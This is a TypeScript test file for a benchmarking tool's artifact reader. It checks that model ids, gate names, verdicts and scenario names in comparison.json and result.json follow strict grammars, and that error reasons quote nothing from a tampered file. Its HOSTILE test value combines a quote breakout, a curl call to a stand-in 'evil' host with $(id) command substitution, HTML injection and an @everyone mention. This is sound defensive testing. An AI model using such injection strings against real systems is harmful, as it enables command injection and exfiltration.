/**
 * The grammars an artifact's strings must follow in the relay modes (comment, aggregate): model
 * ids, gate names, scenario names, verdicts and statuses. A string outside its grammar refuses
 * the file with an ArtifactError whose message names the file and the field, and whose reason
 * (what a comment may show) quotes nothing from the file. result.json gets the same care as
 * comparison.json: a size cap, and every field a report reads checked.
 */
import assert from 'node:assert/strict';
import { truncateSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { isGateName, isRunnerName, isUnitId } from '../../src/compare/grammar.ts';
import { readComparison } from '../../src/compare/read-comparison.ts';
import { readResult } from '../../src/compare/result.ts';
import { gatesFailed } from '../../src/github/publish.ts';
import { toJson } from '../../src/report/json.ts';
import { renderResultMarkdown } from '../../src/report/result-markdown.ts';
import { tempDir } from '../helpers.ts';
import { refused, validComparison, validResult } from './artifact-fixtures.ts';

/* eslint-disable @typescript-eslint/no-explicit-any -- editing parsed JSON */
type Json = any;

const COMPARISON = validComparison();
const RESULT = validResult();
const HOSTILE = 'x"; curl http://evil/$(id) #<img src=x>@everyone';

function file(doc: unknown, edit: (j: Json) => void, name: string): string {
  const json = JSON.parse(toJson(doc));
  edit(json);
  const path = join(tempDir(), name);
  writeFileSync(path, JSON.stringify(json));
  return path;
}

/** Refused, with the field named in message and reason, and nothing of HOSTILE in the reason. */
function refusesField(path: string, read: (p: string) => unknown, field: string, name: string) {
  const e = refused(() => read(path));
  assert.ok(e.message.startsWith(`${path}: ${field} should be `), e.message);
  assert.ok(e.reason.startsWith(`${name}: ${field} should be `), e.reason);
  for (const piece of ['curl', 'evil', '$(id)', '<img', '@everyone', '"x']) {
    assert.ok(!e.reason.includes(piece), `${piece} in the reason: ${e.reason}`);
  }
  assert.match(e.reason, /\(it is a string outside that\)/);
  return e;
}

const readCmp = (p: string) => readComparison(p);
const readUntrusted = (p: string) => readResult(p, { untrusted: true });

test('the grammars: unit ids, gate names, runner names', () => {
  for (const id of ['mlp', 'a.b_c-1', 'mlp/decode', 'x'.repeat(64)]) assert.ok(isUnitId(id), id);
  for (const id of [
    '',
    '-x',
    'a b',
    'a/b/c',
    'mlp/',
    '/decode',
    'mlp/de.code',
    'x'.repeat(65),
    HOSTILE,
  ]) {
    assert.ok(!isUnitId(id), id);
  }
  for (const g of [
    'params',
    'latency.p50',
    'throughput.b8',
    'fail-on-contradiction',
    'decode.latency.p50',
    'decode.throughput.b16',
    'prefill.params',
  ]) {
    assert.ok(isGateName(g), g);
  }
  for (const g of [
    '',
    'latency',
    'latency.p51',
    'throughput.b0',
    'throughput.bx',
    'decode.on-inconclusive',
    'de.code.params',
    'decode.',
    `throughput.b${'9'.repeat(30)}`,
    HOSTILE,
  ]) {
    assert.ok(!isGateName(g), g);
  }
  assert.ok(isRunnerName('ubuntu-24.04'));
  assert.ok(!isRunnerName('ubuntu 24.04') && !isRunnerName('$(id)'));
});

test('the real comparison and result are accepted (ids with a scenario, scenario gates)', () => {
  const c = readComparison(file(COMPARISON, () => {}, 'comparison.json'));
  assert.deepEqual(
    c.models.map((m) => m.id),
    ['mlp', 'mlp/decode', 'fresh'],
  );
  assert.ok(c.gates.some((g) => g.gate === 'decode.latency.p50'));
  assert.equal(
    gatesFailed([{ runner: 'ubuntu-a', comparison: c }]),
    'ubuntu-a:mlp:params,ubuntu-a:mlp:throughput.b1,ubuntu-a:mlp/decode:params',
  );
  const r = readUntrusted(file(RESULT, () => {}, 'result.json'));
  assert.deepEqual(
    r.models.map((m) => m.id),
    ['mlp', 'mlp/decode', 'fresh'],
  );
});

test('comparison.json: a hostile model id, gate model, gate name or scenario name is refused by name', () => {
  const cases: [string, (j: Json) => void][] = [
    ['models[1].id', (j) => (j.models[1].id = HOSTILE)],
    ['models[1].id', (j) => (j.models[1].id = 'mlp/decode/x')],
    ['gates[0].model', (j) => (j.gates[0].model = HOSTILE)],
    ['gates[2].gate', (j) => (j.gates[2].gate = HOSTILE)],
    ['gates[2].gate', (j) => (j.gates[2].gate = 'latency.p51')],
    ['models[1].scenario.name', (j) => (j.models[1].scenario.name = HOSTILE)],
  ];
  for (const [field, edit] of cases) {
    const e = refusesField(
      file(COMPARISON, edit, 'comparison.json'),
      readCmp,
      field,
      'comparison.json',
    );
    assert.match(
      e.message,
      /The file was edited or damaged: produce it again with misnomer compare --json\.$/,
    );
  }
});

test('comparison.json: verdicts, statuses and a dim named by the attacker', () => {
  const e = refused(() =>
    readComparison(
      file(
        COMPARISON,
        (j) => {
          j.models[0].runtime[0].verdict = HOSTILE;
          j.models[1].scenario.dims[HOSTILE] = 'x';
        },
        'comparison.json',
      ),
    ),
  );
  assert.match(
    e.reason,
    /^comparison\.json: models\[0\]\.runtime\[0\]\.verdict should be one of "better", .* \(it is a string outside that\) \(and 1 more\)\./,
  );
  // The dim's name is the attacker's: the path says [?] instead.
  assert.match(e.message, /models\[1\]\.scenario\.dims\[\?\] should be a number/);
  // The log quotes the verdict (cleaned, cut to 40 characters); the comment's reason does not.
  assert.match(e.message, /verdict should be one of .* \(it is "x\\"; curl http:\/\/evil/);
  assert.ok(!e.reason.includes('curl'), e.reason);
});

test('comparison.json: not JSON, the wrong schema, or too large; the reason quotes nothing', () => {
  const dir = tempDir();
  const path = join(dir, 'comparison.json');
  writeFileSync(path, `{"schema": "${HOSTILE}`);
  const bad = refused(() => readComparison(path));
  assert.equal(bad.reason, 'comparison.json is not valid JSON: the file is truncated or damaged.');
  writeFileSync(path, JSON.stringify({ schema: HOSTILE }));
  const schema = refused(() => readComparison(path));
  assert.match(schema.message, /its schema is "x\\"; curl/);
  assert.equal(
    schema.reason,
    'comparison.json is not a misnomer/comparison@1 file. It may come from another version of misnomer: produce it again with this one.',
  );
});

test('result.json: throughput [null] and other damage are errors naming the field, not crashes', () => {
  const cases: [string, (j: Json) => void][] = [
    ['models[0].measurement.throughput[0]', (j) => (j.models[0].measurement.throughput = [null])],
    [
      'models[0].measurement.latency.summary.p50',
      (j) => (j.models[0].measurement.latency.summary.p50 = 'fast'),
    ],
    ['models[0].measurement.status', (j) => (j.models[0].measurement.status = 'fine')],
    ['models[0].analysis.totals.flops', (j) => (j.models[0].analysis.totals.flops = 'lots')],
    ['models[1].analysis.byOpType.MatMul', (j) => (j.models[1].analysis.byOpType.MatMul = null)],
    [
      'models[0].measurement.opProfile.byOpType.MatMul.share',
      (j) => (j.models[0].measurement.opProfile.byOpType.MatMul.share = []),
    ],
    ['models[2].analysis', (j) => delete j.models[2].analysis],
    ['settings.seed', (j) => (j.settings.seed = '1')],
  ];
  for (const [field, edit] of cases) {
    const path = file(RESULT, edit, 'result.json');
    // Trusted or not, the structure is checked (the CLI's compare reads results too).
    for (const read of [readResult, readUntrusted]) {
      const e = refused(() => read(path));
      assert.ok(e.message.startsWith(`${path}: ${field} should be `), `${field}: ${e.message}`);
      assert.ok(e.reason.startsWith(`result.json: ${field} should be `), e.reason);
    }
  }
  // What the accepted file renders: the renderer reads nothing the checks did not check.
  const ok = readUntrusted(file(RESULT, () => {}, 'result.json'));
  assert.match(renderResultMarkdown(ok), /throughput \(batch 1\)/);
});

test('result.json: ids and scenarios by their grammar when untrusted; a CLI id stays readable', () => {
  const path = file(RESULT, (j) => (j.models[0].id = 'my model'), 'result.json');
  assert.equal(readResult(path).models[0].id, 'my model');
  refusesField(
    file(RESULT, (j) => (j.models[0].id = HOSTILE), 'result.json'),
    readUntrusted,
    'models[0].id',
    'result.json',
  );
  refusesField(
    file(RESULT, (j) => (j.models[1].analysis.scenario = HOSTILE), 'result.json'),
    readUntrusted,
    'models[1].analysis.scenario',
    'result.json',
  );
});

test('result.json: the size cap of comparison.json', () => {
  const path = join(tempDir(), 'result.json');
  writeFileSync(path, '');
  truncateSync(path, 21 * 2 ** 20);
  const e = refused(() => readResult(path));
  assert.equal(
    e.message,
    `${path} is 21.0 MiB: a misnomer result may be at most 20.0 MiB, so it is refused unread.`,
  );
});

test('gates-failed refuses to carry a part outside its grammar (a second line of defence)', () => {
  const c = validComparison();
  c.gates[0].model = HOSTILE;
  assert.throws(
    () => gatesFailed([{ comparison: c }]),
    /a tripped gate outside the output grammar/,
  );
  assert.throws(
    () => gatesFailed([{ runner: '$(id)', comparison: validComparison() }]),
    /outside the output grammar/,
  );
});
